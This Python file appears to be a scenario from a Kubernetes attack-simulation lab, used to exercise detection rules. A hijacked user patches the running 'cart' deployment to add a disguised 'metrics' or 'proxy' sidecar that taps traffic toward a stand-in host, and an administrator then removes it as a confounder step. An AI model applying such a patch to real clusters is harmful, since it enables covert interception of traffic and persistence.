"""A second container is put into a running deployment."""

from lab.client import STRATEGIC
from lab.story import Scenario, Stage

_PATH = "/apis/apps/v1/namespaces/shop/deployments/cart"


def _play(stage: Stage) -> None:
    thief = stage.hijack("alice")
    name = stage.word("metrics", "proxy")
    sidecar = {
        "name": name,
        "image": "registry.example.net/tools/tap:2",
        "env": [{"name": "TO", "value": "192.0.2.50"}],
    }
    with stage.step("add a container", thief, "persistence", ("D15", "C16", "C21", "N11")):
        body = {"spec": {"template": {"spec": {"containers": [sidecar]}}}}
        stage.must(thief.patch(_PATH, body, STRATEGIC))
    stage.pause()
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        gone = {"spec": {"template": {"spec": {"containers": [{"name": name, "$patch": "delete"}]}}}}
        stage.admin().patch(_PATH, gone, STRATEGIC)


SCENARIO = Scenario(
    "sidecar-injection",
    "A container is put into a running workload",
    "attack",
    "read the cart's traffic",
    ("T1609", "T1525"),
    _play,
)
